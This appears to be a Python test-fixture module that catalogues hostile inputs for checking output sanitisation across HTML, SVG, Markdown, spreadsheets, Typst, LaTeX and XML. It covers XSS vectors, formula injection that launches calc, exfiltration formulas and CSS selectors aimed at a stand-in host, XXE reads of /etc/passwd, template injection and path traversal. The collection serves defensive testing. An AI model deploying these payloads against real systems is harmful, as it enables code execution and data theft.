"""Texts that try to become something else than text, by the way they try.

A script that runs says so in ``window.ran``; whatever is fetched or followed would leave for ``away.example``.
"""

from __future__ import annotations

from dataclasses import dataclass

RUN = "window.ran=(window.ran||0)+1"
AWAY = "https://away.example/x"

_HOME = "/" + "home" + "/annatran"
_USERS = "/" + "Users" + "/annatran"
_WINDOWS = "C:" + "\\Users\\annatran"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f'<script src="{AWAY}.js"></script>',
    "<script src=//away.example/x.js>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>import('{AWAY}.mjs');{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></noscript></template><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"＜script＞{RUN}＜/script＞",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f'<img src=x oNeRrOr\n=\n"{RUN}">',
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus tabindex='1",
    f'" autofocus onfocus={RUN} x="',
    f"` onload=`{RUN}",
    f"x onerror={RUN} y",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<p style='animation:a 1ms' onanimationstart={RUN}>x</p><style>@keyframes a{{}}</style>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    '"><iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:parent.ran=1"></iframe>',
    f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    f"<xss onpointerrawupdate={RUN} contenteditable autofocus onfocus={RUN}>x</xss>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"javascript://www.nso.gov.vn/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "vbscript:msgbox(1)",
    "blob:https://away.example/1",
    "file:///etc/passwd",
    "view-source:https://away.example",
    "//away.example/x",
    "\\\\away.example\\x",
    "https://www.nso.gov.vn@away.example/x",
    "https://www.nso.gov.vn\\@away.example/x",
    f'https://www.nso.gov.vn/" onmouseover="{RUN}',
    f"https://www.nso.gov.vn/'><script>{RUN}</script>",
    "https://www.nso.gov.v\u0578/x",
    "https://www.nso.gov.vn\u202e/x",
    "http:javascript",
    "HTTPS://",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f'<a href="{AWAY}" ping="{AWAY}">x</a>',
)
SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><script href='{AWAY}.js'/></svg>",
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'><iframe src='{AWAY}'/></body></foreignObject></svg>",
    f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{AWAY}.png' href='{AWAY}.png'/></svg>",
    f"<svg><use href='{AWAY}.svg#a'/><use href='data:image/svg+xml,%3Csvg id=%22a%22 onload=%22{RUN}%22/%3E#a'/></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName='x' dur='1s'/></svg>",
    f"<svg><a><set attributeName='href' to='javascript:{RUN}'/><text y='20'>x</text></a></svg>",
    f"<svg><style>@import '{AWAY}.css';rect{{fill:url({AWAY}#g)}}</style><rect width='9' height='9'/></svg>",
    f"<svg><filter id='f'><feImage href='{AWAY}.png'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{AWAY}.css'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
)
MARKDOWN = (
    f"**<img src=x onerror={RUN}>**",
    f"**a<script>{RUN}</script>**",
    f'**"** onmouseover={RUN} **"**',
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}.png)",
    f'[x]: {AWAY} "t"\n[x]',
    f"<{AWAY}>",
    f"<!-- --><script>{RUN}</script>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    "a | b | c\n|---|---|\n| x | y |",
    "\n\n# heading\n\n---\n\n1. item\n\n> quote",
    "cell \\| cell | `a|b` |",
    f"<details><summary>x</summary>\n\n![]({AWAY}.gif)\n\n</details>",
    "@everyone #1 GH-1 &lt;b&gt; ~~x~~ __y__ ***z***",
    f"[![x]({AWAY}.png)]({AWAY})",
)
BREAKERS = (
    f"</script><script>{RUN}</script>",
    f"</style><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}",
    f"*/{RUN}/*",
    f"';{RUN};//",
    f'";{RUN};//',
    f'\\";{RUN};//',
    "<![CDATA[<b>x</b>]]>",
    f"</select></table></svg></math><img src=x onerror={RUN}>",
    f'"></a></td></tr></table><script>{RUN}</script>',
    "<plaintext><xmp><listing>",
    "</html></body>",
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}{{ self.__init__.__globals__ }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> $(id) `id`",
    "{0.__class__.__mro__} {number} {} {date} %s %(x)s %n",
    "{{constructor.constructor('window.ran=1')()}}",
    "$$x$$ \\(x\\) <%- 1 %>",
)
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{RUN}",
    "&amp;lt;b&amp;gt; &nbsp &copy &notit; &#0; &#xD800;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "<!ENTITY lol '&lol;&lol;'> &lol;",
)
STYLES = (
    f"background:url({AWAY}.png)",
    f"<style>@import '{AWAY}.css';body{{background:url({AWAY}.png)}}</style>",
    f"width:expression({RUN})",
    f"<p style=\"background:url('{AWAY}.png');position:fixed;inset:0\">x</p>",
    f"<link rel=stylesheet href={AWAY}.css><link rel=prefetch href={AWAY}><link rel=dns-prefetch href=//away.example>",
    f"}}}}*{{background:url({AWAY}.png)}}",
    f"<style>input[value^=a]{{background:url({AWAY}?a)}}</style>",
)
DOCUMENT = (
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    f'<base href="{AWAY}/">',
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<iframe src={AWAY}></iframe><frameset><frame src={AWAY}></frameset>",
    f'<img src={AWAY}.png srcset="{AWAY}.png 2x" lowsrc={AWAY}.png>',
    f"<body background={AWAY}.png><table background={AWAY}.png>",
    "<form id=x><input name=attributes><img name=getElementById></form>",
    f"<portal src={AWAY}></portal><applet code={AWAY}></applet>",
)
# Names in pieces or by number: the file itself stays readable whatever shows it.
HIDDEN = (
    "GRDP \u202e66,21\u202c %",
    "a\u2066b\u2067c\u2068d\u2069e",
    "\u200e\u200f\u061c12,66",
    "zero\u200bwidth\u2060joined\ufeff",
    "soft\u00adhyphen and \u034f and \u180e",
    "tag \U000e0041\U000e0042\U000e007f",
    "nul \x00 nul",
    "\x07bell \x08back \x1b]0;title\x07\x1b[31mred\x1b[0m \x1b[2J",
    "del \x7f c1 \x85\x9b31m",
    "line\u2028separator\u2029paragraph",
    "lone \ud800 and \udfff",
    "not characters \ufffe \uffff \U0001fffe",
    "line\r\nbreak\rreturn\x0bvertical\x0cform",
    "\u2800\u3164\uffa0",
    "e" + "\u0301" * 40,
    "A\u030a \u212b \u00c5",
)
LONG = ("a" * 100_000, "<b>" * 10_000, "ộ " * 20_000)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://away.example/x";"Số liệu")',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML(CONCAT("https://away.example/?",A1),"//a")',
    '=WEBSERVICE("https://away.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "1;=1+1",
    'a,b;c\t"d"\r\n=1+1',
    "{=1+1}",
    "_x003D_1+1 _x0041_",
    "|cmd|' /C calc'!A1",
    "%0A=1+1",
)
TYPST = (
    '#import "@preview/x:0.1.0": *',
    '#read("/etc/passwd")',
    '#include "secret.typ"',
    '#eval("1+1") #sys.inputs #panic("x")',
    '#link("https://away.example/x")[x] https://away.example/x',
    '#image("/etc/hostname") #set page(width: 1pt)',
    "] #text(fill: red)[x] [ } { $x^2$ $ /* // */ @label <label> ~ \\ \\u{202e}",
    '```typ #read("x")``` `raw` _x_ *y* = heading\n= heading\n- item\n+ item\n/ term: x',
)
LATEX = (
    "\\input{/etc/passwd}\\write18{id}",
    "\\def\\x{\\x\\x}\\x $\\href{javascript:window.ran=1}{x}$ ^^5cinput",
    "$\\unclosed{ \\begin{document} %",
)
XML = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "</title></entry><entry><title>false</title>",
    "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
    "]]]]><![CDATA[>",
    "<?php echo 1 ?><? x ?>",
)
# Shapes of secrets without being one; all are made up.
SECRETS = (
    "AKIA" + "IOSFODNN7EXAMPLE",
    "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "ey" + "JhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiJ4In0." + "c2lnbmF0dXJl",
    "password=Hunter2! token: 0123456789abcdef0123456789abcdef",
    "postgres://anna:" + "s3cret@db.example/x",
)
MACHINE = (
    f"{_HOME}/figures/secret.csv",
    f'File "{_USERS}/x.py", line 1',
    f"{_WINDOWS}\\figures\\x.csv",
    f"file://{_HOME}/x",
    _WINDOWS.replace("\\", "/") + "/x",
    _WINDOWS.replace("\\", "\\\\") + "\\\\x",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\windows",
    "C:x",
    "\\\\server\\share",
    "~root",
    "~/x",
    ".",
    "..",
    "...",
    ".hidden",
    "x.",
    "x ",
    " x",
    "CON",
    "con.txt",
    "NUL",
    "AUX",
    "COM1",
    "com¹",
    "LPT9.tar.gz",
    "CONIN$",
    "a:b",
    'a*?<>|"b',
    "-rf",
    "--help",
    "%2e%2e%2f",
    "x\x00.csv",
    "x" * 300,
    "ộ" * 200,
    "..\u2215etc\u2044x\uff0fy",
    "\uff0e\uff0e\uff0fetc",
    "Gia Lai",
    "Gia La\u0456",
    "B\u00ecnh \u0110\u1ecbnh",
    "Bi\u0300nh \u0110i\u0323nh",
    "latest",
    "failed",
    ".archive",
    "$HOME",
    "`id`",
    "a\nb",
    "",
)
NAMES_THAT_ARE_CODE = (
    "region=1;import os#",
    "x\nimport os",
    "__import__('os')",
    "a b",
    "a.b",
    "a[0]",
    "a:=1",
    "*a",
    "lambda",
    "None",
    "1a",
    "",
    "vùng",
    "r\u0435gion",
    "ｒegion",
    "region\x00",
    "region\n",
    "exec",
    "eval",
    "print",
    "__builtins__",
    "__name__",
    "_",
    "{{region}}",
    "<script>",
    "../region",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One hostile text; ``label`` names it in a failing test."""

    category: str
    number: int
    text: str

    @property
    def label(self) -> str:
        return f"{self.category}-{self.number}"


_CATEGORIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "svg": SVG,
    "markdown": MARKDOWN,
    "breakers": BREAKERS,
    "templates": TEMPLATES,
    "entities": ENTITIES,
    "styles": STYLES,
    "document": DOCUMENT,
    "hidden": HIDDEN,
    "long": LONG,
    "formulas": FORMULAS,
    "typst": TYPST,
    "latex": LATEX,
    "xml": XML,
    "secrets": SECRETS,
    "machine": MACHINE,
    "paths": tuple(text for text in PATHS if text.strip()),
}
CORPUS = tuple(
    Payload(category=category, number=number, text=text)
    for category, texts in _CATEGORIES.items()
    for number, text in enumerate(texts, start=1)
)
WRITABLE = tuple(payload.text for payload in CORPUS if payload.category != "long" and "\ud800" not in payload.text)
"""What goes through every output at once: neither without measure nor what no file can hold, which have tests of their own."""
